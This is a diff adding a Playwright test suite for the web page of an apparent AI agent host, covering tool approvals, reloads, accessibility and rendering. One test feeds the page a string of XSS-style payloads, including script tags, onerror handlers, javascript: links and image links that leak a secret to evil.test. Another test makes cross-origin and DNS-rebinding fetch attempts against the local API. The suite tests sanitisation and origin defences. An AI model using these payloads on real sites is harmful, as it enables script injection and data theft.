@@ -1,0 +1,364 @@
+"""The page in a real Chromium (issue D, part 2; R3)."""
+
+from __future__ import annotations
+
+import gzip
+import hashlib
+import http.server
+import re
+import shutil
+import signal
+import threading
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from .conftest import Server
+
+ROOT = Path(__file__).resolve().parents[3]
+BUILT, SOURCES = ROOT / "host" / "moryflow" / "server" / "page", ROOT / "host" / "web"
+CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
+ASKS = {"text": "I ask first.", "calls": [{"name": "danger", "arguments": {"what": "a thing"}}]}
+FLAGS = ["--no-sandbox", "--host-resolver-rules=MAP evil.test 127.0.0.1, MAP rebind.test 127.0.0.1"]
+AXE = SOURCES / "node_modules" / "axe-core" / "axe.min.js"
+LIMIT = 80 * 1024
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    """A browser of the system's."""
+    if CHROMIUM is None:
+        pytest.skip("no chromium on this machine: apt-get install chromium")
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
+        yield browser
+        browser.close()
+
+
+@pytest.fixture
+def tab(browser: Any) -> Iterator[Callable[..., Any]]:
+    """Open tabs; a page error, or a request to anywhere else, fails the test."""
+    contexts: list[Any] = []
+    wrong: list[str] = []
+
+    def tab(server: Server, session: str = "", **how: Any) -> Any:
+        context = browser.new_context(**how)
+        contexts.append(context)
+        page = context.new_page()
+        page.set_default_timeout(60_000)
+        page.on("pageerror", lambda error: wrong.append(str(error)))
+        page.on("request", lambda request: _own(request.url) or wrong.append(request.url))
+        page.goto(server.post("/codes", {}, 201)["link"])
+        page.wait_for_selector(".sessions")
+        if session:
+            page.evaluate("id => { location.hash = id; location.reload(); }", session)
+            page.wait_for_selector("#message")
+        return page
+
+    yield tab
+    for context in contexts:
+        context.close()
+    assert wrong == []
+
+
+def _own(address: str) -> bool:
+    return re.match(r"(http://(127\.0\.0\.1|localhost):|blob:|data:)", address) is not None
+
+
+def say(page: Any, text: str) -> None:
+    """Type a prompt and send it."""
+    page.fill("#message", text)
+    page.press("#message", "Enter")
+
+
+def test_the_built_page_is_that_of_the_sources() -> None:
+    """Whoever changes host/web builds it: `npm ci && npm run build` there."""
+    files = [*sorted((SOURCES / "src").iterdir(), key=lambda path: path.name), SOURCES / "package-lock.json"]
+    found = hashlib.sha256(b"".join(path.read_bytes() for path in files)).hexdigest()
+    assert (BUILT / "sources.sha256").read_text().strip() == found
+
+
+def test_the_page_is_small_and_asks_nobody() -> None:
+    """At most 80 KB compressed; the lock names no place that packages come from."""
+    data = b"".join((BUILT / name).read_bytes() for name in ("page.js", "page.css", "index.html"))
+    assert len(gzip.compress(data)) <= LIMIT
+    assert "resolved" not in (SOURCES / "package-lock.json").read_text()
+
+
+def test_every_word_is_there_in_both_languages() -> None:
+    """English and Chinese come from one table."""
+    text = (SOURCES / "src" / "strings.js").read_text()
+    english, chinese = (set(re.findall(r"(\w+): \"", part)) for part in text.split("const ZH")[:2])
+    assert english == chinese
+    used = {word for path in (SOURCES / "src").glob("*.js") for word in re.findall(r"\bt\(\"(\w+)\"\)", path.read_text())}
+    assert used <= english
+
+
+def test_prompt_tool_approval_result_reload(server: Server, tab: Callable[..., Any]) -> None:
+    """The whole way, and the same state after a reload (S0.47, S0.9)."""
+    session = server.session(ASKS, "All **done**.")
+    page = tab(server, session)
+    assert "#code" not in page.url
+    say(page, "Do it")
+    card = page.locator(".card", has_text="danger")
+    card.locator(".question").wait_for()
+    assert page.title().startswith("? ")
+    assert page.locator("link[rel=icon]").get_attribute("href") == "/page/asking.svg"
+    assert "tool:danger" in card.locator(".question").inner_text()
+    assert page.locator(".question button.primary").evaluate("button => button !== document.activeElement")
+    page.keyboard.press("Tab")
+    page.locator(".sessions .new").focus()
+    page.keyboard.press("g")
+    page.keyboard.press("a")
+    page.locator(".question:focus").wait_for()
+    page.keyboard.press("y")
+    page.locator(".markdown strong", has_text="done").wait_for()
+    assert (server.home.parent / "files" / "did").read_text() == "a thing"
+    page.locator(".doing").wait_for(state="detached")
+    page.locator(".live").wait_for(state="detached")
+    before = page.locator("[role=log]").inner_text()
+    page.reload()
+    page.locator(".markdown strong", has_text="done").wait_for()
+    assert page.locator("[role=log]").inner_text().replace(" ms", "") == re.sub(r"\n\d+ ms", "", before).replace(" ms", "")
+    assert page.title() == "Do it · Moryflow"
+
+
+def test_two_tabs_and_a_refusal(server: Server, tab: Callable[..., Any]) -> None:
+    """What one tab does the other shows; the card is gone where it was answered elsewhere."""
+    session = server.session(ASKS, "As you like.")
+    one, other = tab(server, session), tab(server, session)
+    say(one, "Do it")
+    other.locator(".question").wait_for()
+    one.locator(".question").wait_for()
+    one.locator(".question .answers button", has_text="Refuse").click()
+    one.locator(".question form input").fill("not today")
+    one.keyboard.press("Enter")
+    other.locator(".markdown", has_text="As you like.").wait_for()
+    assert other.locator(".question").count() == 0
+    assert other.locator(".card.denied").count() == 1
+    [answered] = server.get("/approvals")
+    assert (answered["reply"], answered["message"]) == ("reject", "not today")
+
+
+def test_a_question_of_another_session_is_found(server: Server, tab: Callable[..., Any]) -> None:
+    """The bar leads there, whoever asks."""
+    quiet, asking = server.session("Hello."), server.session(ASKS, "Done.")
+    page = tab(server, quiet)
+    server.post(f"/sessions/{asking}/prompt", {"text": "go"}, 202)
+    page.locator(".asking button").click()
+    page.locator(".question:focus").wait_for()
+    page.keyboard.press("s")
+    page.locator(".ended", has_text="stopped").wait_for()
+
+
+def test_a_killed_server_loses_nothing_of_a_tab(start: Callable[..., Server], tab: Callable[..., Any]) -> None:
+    """kill -9 with the tab open: it says so, keeps what is typed, and goes on with the next server of the port."""
+    server = start()
+    session = server.session("One.", "Two.")
+    page = tab(server, session)
+    say(page, "first")
+    page.locator(".markdown", has_text="One.").wait_for()
+    server.end(signal.SIGKILL)
+    page.locator(".offline").wait_for()
+    say(page, "second")
+    page.locator(".queue li", has_text="second").wait_for()
+    page.fill("#message", "a draft")
+    start(port=server.port)
+    page.locator(".markdown", has_text="One.").nth(1).wait_for()  # the script begins anew with its process
+    page.locator(".offline").wait_for(state="detached")
+    assert page.input_value("#message") == "a draft"
+    assert page.locator("article.user").count() == 2
+    page.reload()
+    page.wait_for_selector("#message")
+    assert page.input_value("#message") == "a draft"
+
+
+def test_a_prompt_waits_while_another_runs(server: Server, tab: Callable[..., Any]) -> None:
+    """It is shown as queued, and sent when the turn is over."""
+    session = server.session({"calls": [{"name": "hold", "arguments": {}}]}, "One.", "Two.")
+    page = tab(server, session)
+    say(page, "first")
+    page.locator(".card.running").wait_for()
+    say(page, "second")
+    page.locator(".queue li", has_text="second").wait_for()
+    (server.home.parent / "files" / "go").touch()
+    page.locator(".markdown", has_text="Two.").wait_for()
+    assert page.locator(".queue li").count() == 0
+
+
+def test_full_access_is_confirmed_once(server: Server, tab: Callable[..., Any]) -> None:
+    """Per session, left of the input (S0.69); no keeps the mode as it is."""
+    session = server.session("One.")
+    page = tab(server, session)
+    mode = page.locator("select.mode")
+    mode.select_option("full_access")
+    page.locator("dialog button", has_text="No").click()
+    assert server.get(f"/sessions/{session}")["mode"] == "agent"
+    mode.select_option("full_access")
+    page.locator("dialog button", has_text="Yes").click()
+    page.locator("select.mode.full_access").wait_for()
+    assert server.get(f"/sessions/{session}")["mode"] == "full_access"
+
+
+def test_a_long_output_is_read_by_range(server: Server, tab: Callable[..., Any]) -> None:
+    """A badge, and the whole on demand (S0.56)."""
+    session = server.session({"calls": [{"name": "lengthy", "arguments": {"text": "abc", "times": 40_000}}]}, "Done.")
+    page = tab(server, session)
+    say(page, "go")
+    page.locator(".badge", has_text="truncated").wait_for()
+    page.locator(".card .whole", has_text="View full output").click()
+    page.locator(".card .output").wait_for()
+    while page.locator(".card button", has_text="More").count():
+        size = page.evaluate("document.querySelector('.card .output').textContent.length")
+        page.locator(".card button", has_text="More").click()
+        page.wait_for_function("size => document.querySelector('.card .output').textContent.length > size", arg=size)
+    assert page.evaluate("document.querySelector('.card .output').textContent") == "abc\n" * 40_000
+
+
+HOSTILE = """<script>document.title = "taken"</script> <img src=x onerror="document.title='taken'">
+[link](javascript:document.title='taken') [data](data:text/html,hi) ![leak](https://evil.test/?secret) ![](http://evil.test/x)
+<iframe src="https://evil.test"></iframe> \u202egnihton\u202c <style>body{display:none}</style>
+
+[ok](https://example.org/a)
+
+![ref][leak]
+
+[leak]: https://evil.test/ref
+"""
+
+
+def test_what_a_model_writes_is_text(server: Server, tab: Callable[..., Any]) -> None:
+    """HTML, scripts' links, images from elsewhere, streamed and whole: no request leaves the page (R3)."""
+    call = {"name": "lengthy", "arguments": {"text": HOSTILE, "times": 2}}
+    session = server.session({"text": HOSTILE, "calls": [call]}, HOSTILE)
+    page = tab(server, session)
+    say(page, HOSTILE)
+    page.locator(".markdown a", has_text="ok").last.wait_for()
+    page.locator(".card-head").click()
+    page.locator(".card-body").wait_for()
+    links = page.eval_on_selector_all("[role=log] a", "all => all.map(one => one.getAttribute('href'))")
+    assert {link for link in links if link and not link.startswith(("http:", "https:", "mailto:"))} == set()
+    for forbidden in ("script", "iframe", "style", "img", "[onerror]"):
+        assert page.locator(f"[role=log] {forbidden}").count() == 0, forbidden
+    assert page.title() != "taken"
+    page.reload()
+    page.locator(".markdown a", has_text="ok").last.wait_for()
+
+
+def test_a_line_of_five_megabytes_is_shown(server: Server, tab: Callable[..., Any]) -> None:
+    """It is text, and the page goes on."""
+    session = server.session("x" * 5_000_000, "Next.")
+    page = tab(server, session)
+    say(page, "go")
+    page.locator(".markdown pre").wait_for()
+    say(page, "more")
+    page.locator(".markdown", has_text="Next.").wait_for()
+
+
+@pytest.mark.parametrize("origin", ["http://evil.test:{other}", "http://127.0.0.1:{other}", "http://rebind.test:{own}"])
+def test_a_foreign_page_gets_nothing(server: Server, browser: Any, origin: str) -> None:
+    """Another site, another port of this machine, and another name for ours: no way of asking is answered (R2)."""
+    foreign = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Blank)
+    threading.Thread(target=foreign.serve_forever, daemon=True).start()
+    own = f"http://127.0.0.1:{server.port}"
+    page = browser.new_page()
+    try:
+        address = origin.format(other=foreign.server_port, own=server.port)
+        reply = page.goto(address)
+        if "rebind" in address:
+            assert reply.status == 421
+            own = address
+        found = page.evaluate(
+            """async ([own, token]) => {
+                const tries = [
+                    fetch(own + "/sessions"), fetch(own + "/sessions", {headers: {Authorization: "Bearer " + token}}),
+                    fetch(own + "/sessions", {method: "POST", mode: "no-cors", body: "{}"}),
+                    fetch(own + "/sessions", {method: "POST", headers: {"Content-Type": "application/json"}, body: "{}"}),
+                    fetch(own + "/events", {mode: "no-cors"}),
+                ];
+                const seen = reply => reply && reply.type !== "opaque" ? reply.status : 0;
+                return (await Promise.allSettled(tries)).map(one => seen(one.value));
+            }""",
+            [own, server.token],
+        )
+        assert set(found) <= {0, 403, 421}
+        assert server.get("/sessions") == []
+    finally:
+        page.close()
+        foreign.shutdown()
+        foreign.server_close()
+
+
+class _Blank(http.server.BaseHTTPRequestHandler):
+    def do_GET(self) -> None:
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.end_headers()
+        self.wfile.write(b"<title>foreign</title>")
+
+    def log_message(self, *_: object) -> None:
+        pass
+
+
+@pytest.mark.parametrize(("width", "scheme", "language"), [(1280, "light", "en"), (1280, "dark", "zh-CN"), (375, "dark", "en")])
+def test_nothing_stands_in_the_way_of_anybody(
+    server: Server, tab: Callable[..., Any], width: int, scheme: str, language: str
+) -> None:
+    """axe finds nothing with each panel open; a phone scrolls in one direction only."""
+    if not AXE.exists():
+        pytest.skip("no axe-core on this machine: npm ci in host/web")
+    session = server.session(ASKS, "# A heading\n\nSome text.\n\n| a | b |\n|---|---|\n| 1 | 2 |")
+    page = tab(server, session, viewport={"width": width, "height": 800}, color_scheme=scheme, locale=language)
+    say(page, "Do it")
+    page.locator(".question").wait_for()
+    for place in (None, *range(page.locator(".session-head nav button").count())):
+        if place is not None:
+            page.locator(".session-head nav button").nth(place).click()
+            page.locator(".panel").wait_for()
+        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+        page.evaluate(f"{AXE.read_text()}; 0")
+        found = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
+        assert [(one["id"], one["nodes"][0]["html"][:200]) for one in found["violations"]] == [], place
+        if place is not None:
+            page.locator(".panel > header button").click()
+
+
+def test_a_branch_is_edited_and_the_tree_leads_back(server: Server, tab: Callable[..., Any]) -> None:
+    """Edit a prompt, send it again, and go back to the first branch; a label is shown."""
+    session = server.session("One.", "Two.")
+    page = tab(server, session)
+    say(page, "first")
+    page.locator(".markdown", has_text="One.").wait_for()
+    page.locator("article.user").hover()
+    page.locator("article.user button", has_text="Edit and branch").click()
+    page.wait_for_function("() => document.querySelector('#message').value === 'first'")
+    say(page, "second")
+    page.locator(".markdown", has_text="Two.").wait_for()
+    page.locator(".session-head nav button", has_text="Tree").click()
+    page.locator(".tree button", has_text="One.").click()
+    page.locator(".transcript .markdown", has_text="One.").wait_for()
+    assert page.locator(".transcript .markdown", has_text="Two.").count() == 0
+
+
+def test_many_cards_stay_usable(server: Server, tab: Callable[..., Any]) -> None:
+    """What is older is fetched on demand, and what is not on the screen costs nothing."""
+    page = tab(server, _many(server))
+    page.locator(".older").click()
+    page.wait_for_function("() => document.querySelectorAll('article').length > 400")
+    say(page, "still there?")
+    page.locator(".markdown", has_text="Last.").wait_for()
+
+
+def _many(server: Server) -> str:
+    """A session of eight turns with fifty calls each."""
+    turns = [
+        [{"name": "lengthy", "arguments": {"text": f"{turn}.{one}", "times": 1}} for one in range(50)] for turn in range(8)
+    ]
+    session = server.session(*(answer for calls in turns for answer in ({"calls": calls}, "Done.")), "Last.")
+    for _ in turns:
+        server.whole_turn(session)
+    return session
